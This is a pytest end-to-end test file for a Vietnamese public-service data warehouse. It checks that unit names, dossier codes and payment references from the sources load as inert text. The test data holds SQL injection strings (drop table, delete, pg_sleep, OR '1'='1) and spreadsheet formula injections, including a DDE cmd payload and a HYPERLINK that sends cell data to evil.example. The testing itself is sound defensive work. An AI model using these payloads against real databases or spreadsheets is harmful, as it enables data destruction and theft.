"""S4: text from the sources is data, never SQL and never a formula, on the warehouse side.

Unit names, procedure names, dossier codes, payment references and status-step texts carrying
quotes, ``'); drop table …``, psycopg and COPY syntax (``%(name)s``, ``%s``, ``{}``, ``\\N``,
tabs, backslashes) and spreadsheet formulas (``=``, ``+``, ``-``, ``@``) go from the simulator
over HTTP through the real daily DAGs (COPY into raw, SQL staging, the GX gate, the loads) and
the Friday snapshot; every value arrives exactly as sent, every table is still there, and a
record the gate rejects is quarantined with the same text. (That a name beginning with ``=``
stays text in the exported workbook is the workbook's own test.)
"""

from __future__ import annotations

from datetime import date, datetime

import psycopg
import pytest
from helpers.pipeline import fresh_warehouse
from helpers.reconcile import VN
from helpers.records import dossier, payment, procedure, unit
from helpers.scenario import bad_share_threshold, run_scenario, write_scenario

from tthc_pipeline.report.snapshot import publish_snapshot

pytestmark = [pytest.mark.e2e, pytest.mark.reliability]

DAY = date(2026, 8, 3)
NOW = datetime(2026, 8, 10, tzinfo=VN)
REPORT_DATE = date(2026, 8, 7)
ROOT, PROCEDURE = "000.00.00.H49", "1.000153"
CATALOGUED = "20260701080000"
UNIT_NAMES = {  # unit code → a name meant to break something
    "000.00.02.H49": "Sở '); drop table dw.dim_unit; --",
    "000.00.03.H49": '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")',
    "000.00.04.H49": "+cmd|' /C calc'!A0",
    "000.00.05.H49": "@SUM(1+1)",
    "000.00.06.H49": "-2+3",
    "000.00.07.H49": "%(batch_id)s %s {} {unit_code} $1 $$ ;",
    "000.00.08.H49": "\\N",  # COPY's NULL marker, written out
    "000.00.09.H49": "a\tb\nc\\d\\\\e \u00a0f",
}
PROCEDURE_NAME = "Thủ tục \"trích dẫn\" ' OR '1'='1"
EVIL_DOSSIER = "HS-1');DROP/**/TABLE/**/dw.fact_dossier;--"
QUOTED_DOSSIER = "HS-O'Brien\"x\\"
REJECTED_DOSSIER = "HS-2'||pg_sleep(5)||'"
ROOM = "'; delete from meta.load_batch; --"
OFFICER = "CB'01\"--"
PAYMENTS = {"T-1';--": EVIL_DOSSIER, 'T-2"/*': QUOTED_DOSSIER}


def at(hhmm: str) -> str:
    return f"{DAY:%Y%m%d}{hhmm}00"


def case(code: str, unit_code: str, **fields) -> dict:
    record = dossier(code, at("1000"), [(1, at("0800")), (4, at("1000"))], MaTTHC=PROCEDURE,
                     TenTTHC=PROCEDURE_NAME, DonViXuLy=unit_code, **fields)
    for step in record["TienDo"]:
        step.update(PhongBanXuLy=ROOM, NguoiXuLy=OFFICER)
    return record


def scenario_records() -> dict[str, list[dict]]:
    units = [unit(ROOT, "UBND tỉnh", CATALOGUED, CapDonVi="tinh")] + [
        unit(code, name, CATALOGUED, MaDonViCha=ROOT) for code, name in UNIT_NAMES.items()]
    return {
        "don_vi": units,
        "thu_tuc": [procedure(PROCEDURE, CATALOGUED, list(UNIT_NAMES), TenTTHC=PROCEDURE_NAME)],
        "ho_so": [case(EVIL_DOSSIER, "000.00.02.H49"), case(QUOTED_DOSSIER, "000.00.03.H49"),
                  case(REJECTED_DOSSIER, "000.00.03.H49", TrangThaiHoSo=11)],
        "giao_dich": [payment(ref, code, at("1100"), MaTTHC=PROCEDURE, MaDonVi="000.00.02.H49")
                      for ref, code in PAYMENTS.items()],
    }


@pytest.fixture(scope="module")
def loaded(postgres_server, tmp_path_factory):
    folder = write_scenario(tmp_path_factory.mktemp("s4"), **scenario_records())
    with fresh_warehouse(postgres_server) as warehouse, bad_share_threshold(1.0):
        tables_before = tables(warehouse)
        run_scenario(warehouse, folder, [DAY], NOW)
        publish_snapshot(warehouse, REPORT_DATE)
        yield warehouse, tables_before


def tables(conninfo: str) -> set[str]:
    with psycopg.connect(conninfo) as conn:
        return {f"{s}.{t}" for s, t in conn.execute(
            "select schemaname, tablename from pg_tables where schemaname not in"
            " ('pg_catalog', 'information_schema')")}


def query(conninfo: str, sql: str, params: tuple = ()) -> list[tuple]:
    with psycopg.connect(conninfo) as conn:
        return conn.execute(sql, params).fetchall()


def test_s4_every_table_survives_and_every_batch_loads(loaded):
    warehouse, tables_before = loaded
    assert tables(warehouse) == tables_before
    assert query(warehouse, "select entity, status from meta.load_batch order by entity") == [
        ("don_vi", "loaded"), ("giao_dich", "loaded"), ("ho_so", "loaded"),
        ("thu_tuc", "loaded")]


def test_s4_names_arrive_exactly_as_sent(loaded):
    warehouse, _ = loaded
    assert dict(query(warehouse, "select unit_code, unit_name from dw.dim_unit"
                      " where unit_code <> all(%s)", (["-1", ROOT],))) == UNIT_NAMES
    assert query(warehouse, "select procedure_name from dw.dim_procedure"
                 " where procedure_code = %s", (PROCEDURE,)) == [(PROCEDURE_NAME,)]


def test_s4_codes_and_step_texts_arrive_exactly_as_sent(loaded):
    warehouse, _ = loaded
    assert query(warehouse, "select d.dossier_code, s.room_name, s.officer_code"
                 " from dw.fact_dossier d join dw.fact_dossier_status s using (dossier_key)"
                 " order by 1, s.step_no") == [
        (code, ROOM, OFFICER) for code in sorted([EVIL_DOSSIER, QUOTED_DOSSIER]) for _ in "12"]
    assert dict(query(warehouse, "select payment_ref, dossier_code from dw.fact_payment")) == (
        PAYMENTS)


def test_s4_a_rejected_record_is_quarantined_with_its_text(loaded):
    warehouse, _ = loaded
    assert query(warehouse, "select record ->> 'MaHoSo', rule, details from quarantine.ho_so"
                 ) == [(REJECTED_DOSSIER, "ho_so.unknown_status", {"status_code": 11})]


def test_s4_a_name_like_a_formula_stays_text_for_bi_and_the_report(loaded):
    warehouse, _ = loaded
    formula = UNIT_NAMES["000.00.03.H49"]
    assert query(warehouse, "select unit_name, pg_typeof(unit_name)::text from dw.v_dossier"
                 " where dossier_code = %s", (QUOTED_DOSSIER,)) == [(formula, "text")]
    assert query(warehouse, "select distinct unit_name from mart.chi_thi_04_weekly"
                 " where unit_code = %s", ("000.00.03.H49",)) == [(formula,)]
